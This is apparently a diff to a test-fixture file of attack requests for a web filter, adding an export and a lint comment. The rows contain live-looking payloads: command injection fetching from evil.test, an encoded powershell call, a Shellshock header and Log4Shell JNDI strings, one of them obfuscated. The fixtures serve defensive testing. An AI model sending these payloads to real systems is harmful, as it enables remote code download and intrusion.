@@ -2,7 +2,7 @@
 import type { Case } from "./cases.ts"
 import { type Input, requestOf } from "./request.ts"
 
-type Row = readonly [what: string, request: Input]
+export type Row = readonly [what: string, request: Input]
 
 const browser = {
   Host: "shop.example.com",
@@ -56,6 +56,7 @@ export const attacks: readonly Row[] = [
   ["commands: in backticks", form("host=%60wget+http%3A%2F%2Fevil.test%2Fx%60")],
   ["commands: of Windows", get("/ping?host=1%26powershell.exe%20-enc%20SQBFAFgA")],
   ["commands: Shellshock", get("/cgi-bin/status", { "User-Agent": "() { :; }; /bin/bash -c 'id'" })],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers write
   ["Log4Shell in a field", get("/", { "X-Api-Version": "${jndi:ldap://evil.test/a}" })],
   ["Log4Shell in the query", get("/?x=$%7Bjndi:ldap://evil.test/a%7D")],
   ["Log4Shell, in disguise", get("/?x=$%7B$%7Blower:j%7Dndi:ldap://evil.test/a%7D")],
